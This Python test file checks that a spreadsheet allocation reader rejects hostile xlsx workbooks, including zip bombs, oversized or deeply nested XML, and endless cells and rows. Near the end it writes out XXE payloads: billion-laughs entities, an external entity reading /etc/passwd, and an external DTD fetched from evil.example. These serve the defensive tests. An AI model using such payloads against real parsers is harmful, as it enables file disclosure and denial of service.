"""Workbooks that swell, nest or go on without end: a fault each, in seconds and little memory."""

import zipfile
from functools import partial
from pathlib import Path

import pytest

from brevgen.facts.allocation import read_allocation
from brevgen.findings import Findings
from tests.hostile import workbooks
from tests.hostile.workbooks import (
    AAS,
    HEADER,
    RELATIONS,
    SHEET,
    STYLES,
    TEXTS,
    TYPES,
    WORKBOOK,
    packed,
    parts,
    row,
    sheet,
)
from tests.support.bounded import within_bounds
from tests.support.samples import REQUEST

pytestmark = pytest.mark.slow

MEGABYTE = 1024 * 1024
LIMIT = "more than 200 MB when unpacked, or too many cells"


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "allocation.xlsx"


def read(path: Path) -> tuple[list[tuple[str, int | None]], list[str]]:
    findings = Findings()
    allocation = read_allocation(path, REQUEST, findings, shown_as=path.name)
    rows = [(row.number, row.count("asked")) for row in allocation.rows] if allocation else []
    return rows, [str(fault) for fault in findings.faults]


def refused(path: Path, told: str) -> None:
    rows, faults = within_bounds(partial(read, path))
    assert not rows
    assert [told in fault for fault in faults] == [True], faults


def good(path: Path) -> list[tuple[str, int | None]]:
    rows, faults = within_bounds(partial(read, path))
    assert faults == []
    return rows


def test_a_small_workbook_put_together_by_hand_is_read(path):
    assert good(packed(path, parts())) == [("0214", 10)]


@pytest.mark.parametrize("part", [SHEET, TEXTS, STYLES, WORKBOOK, RELATIONS, TYPES])
def test_a_part_that_inflates_beyond_all_measure(path, part):
    refused(packed(path, parts() | {part: b" " * (201 * MEGABYTE)}), LIMIT)


def test_a_picture_of_any_size_is_not_unpacked(path):
    picture = {"xl/media/picture.png": bytes(201 * MEGABYTE)}
    assert good(packed(path, parts() | picture)) == [("0214", 10)]


def test_a_part_that_is_larger_than_it_says(path):
    size = 201 * MEGABYTE
    workbooks.declare(packed(path, parts() | {SHEET: b" " * size}), size, 1000)
    refused(path, "damaged")


def test_a_part_that_is_smaller_than_it_says(path):
    content = parts()
    workbooks.declare(packed(path, content), len(content[SHEET]), 0xFFFFFFF0)
    refused(path, LIMIT)


def test_very_many_parts(path):
    with zipfile.ZipFile(packed(path, parts()), "a") as package:
        for number in range(12_000):
            package.writestr(str(number), b"")
    refused(path, "damaged")


@pytest.mark.parametrize("packing", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
def test_a_kind_of_packing_that_can_ask_for_any_memory(path, packing):
    refused(packed(path, parts(), packing), "damaged")


@pytest.mark.parametrize(
    ("content", "told"),
    [
        pytest.param("<a/>" * 5_100_000, LIMIT, id="elements"),
        pytest.param("<a>" * 50_000, "damaged", id="elements in elements"),
        pytest.param(f'<a b="{"x" * 20 * MEGABYTE}"/>', "damaged", id="one attribute"),
        pytest.param(f"<!--{'x' * 20 * MEGABYTE}-->", "damaged", id="a comment"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("part", [SHEET, TEXTS])
def test_a_part_of_nothing_else(path, part, content, told):
    written = {SHEET: parts(sheet(content)), TEXTS: parts(texts=content)}[part]
    refused(packed(path, written), told)


@pytest.mark.parametrize("part", [SHEET, TEXTS])
def test_an_element_of_attributes_without_end(path, part):
    element = "<a " + " ".join(f'b{n}=""' for n in range(200_000)) + "/>"
    content = parts(sheet(HEADER, AAS, element), texts=element)
    assert good(packed(path, content)) == [("0214", 10)]


def test_rows_whose_only_cell_is_the_last_there_can_be(path):
    far = "".join(f"<row><c r='XFD{n}'><v>1</v></c></row>" for n in range(2, 5_000))
    refused(packed(path, parts(sheet(HEADER, far))), LIMIT)


def test_as_many_merged_cells_as_there_can_be(path):
    merged = '<mergeCell ref="A2:XFD1048576"/>' * 9_000
    after = f"</sheetData><mergeCells>{merged}</mergeCells><sheetData>"
    _, faults = within_bounds(partial(read, packed(path, parts(sheet(HEADER, AAS, AAS, after)))))
    assert len(faults) == 5_001


def test_merged_cells_without_end(path):
    merged = '<mergeCell ref="A2:XFD1048576"/>' * 200_000
    after = f"</sheetData><mergeCells>{merged}</mergeCells><sheetData>"
    refused(packed(path, parts(sheet(HEADER, AAS, after))), LIMIT)


def test_a_cell_of_100_mb(path):
    refused(packed(path, parts(sheet(HEADER, row("0214", "Å" * 50 * MEGABYTE, "10")))), LIMIT)


def test_a_cell_of_9_mb(path):
    refused(packed(path, parts(sheet(HEADER, row("0214", "x" * 9 * MEGABYTE, "10")))), "10000")


def test_a_long_text_that_many_cells_share(path):
    text = f"<si><t> å{'x' * 9000} </t></si>"
    shared = "<row>" + '<c t="s"><v>0</v></c>' * 10 + "</row>"
    refused(packed(path, parts(sheet(HEADER, shared * 3_000), texts=text)), "characters")


def test_long_texts_that_nobody_uses(path):
    content = parts(texts=f"<si><t>{'x' * 9000}</t></si>" * 3_000)
    assert good(packed(path, content)) == [("0214", 10)]


def test_rows_that_hold_something_without_end(path):
    content = parts(sheet(HEADER, "<row><c><v>1</v></c></row>" * 20_001))
    refused(packed(path, content), "more than 20000 rows")


def test_as_many_cells_as_are_read(path):
    cells = "<row>" + "<c><v>1</v></c>" * 1_000 + "</row>"
    refused(packed(path, parts(sheet(HEADER, cells * 201))), "200000 cells")


@pytest.mark.parametrize("sheets", [1_001, 999])
def test_one_part_that_is_very_many_sheets(path, sheets):
    listed = (f'<sheet name="{n}" sheetId="{n}" r:id="s1"/>' for n in range(sheets))
    content = parts(sheet(" " * 9 * MEGABYTE), sheets="".join(listed))
    refused(packed(path, content), LIMIT if sheets == 999 else "more than 1000 sheets")


def test_relations_without_end(path):
    content = parts(relations='<Relationship Id="a" Type="b" Target="c"/>' * 600_000)
    refused(packed(path, content), LIMIT)


def test_a_number_format_without_end(path):
    styles = f'<numFmts><numFmt numFmtId="200" formatCode="{"[" * 900_000}"/></numFmts>'
    assert good(packed(path, parts(styles=styles))) == [("0214", 10)]


LAUGHS = '<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{number} "{again}">'
    for number in range(1, 12)
    for again in [f"&a{number - 1};" * 10]
)
FILE = '<!ENTITY a11 SYSTEM "file:///etc/passwd">'
NETWORK = '<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a; <!ENTITY a11 "x">'


@pytest.mark.parametrize("part", [SHEET, TEXTS, WORKBOOK, RELATIONS, STYLES, TYPES])
@pytest.mark.parametrize("entities", [LAUGHS, FILE, NETWORK], ids=["laughs", "file", "network"])
def test_entities_are_never_filled_in(path, entities, part):
    content = parts(sheet(HEADER, row("0214", "&a11;", "10")), texts="<si><t>&a11;</t></si>")
    if part == TEXTS:
        content[SHEET] = sheet(HEADER, '<row><c><v>214</v></c><c t="s"><v>0</v></c></row>').encode()
    content[part] = f"<!DOCTYPE a [{entities}]>".encode() + content[part]
    rows, faults = within_bounds(partial(read, packed(path, content)))
    assert not rows
    assert faults
    assert not any("root:" in fault or "haha" in fault for fault in faults)
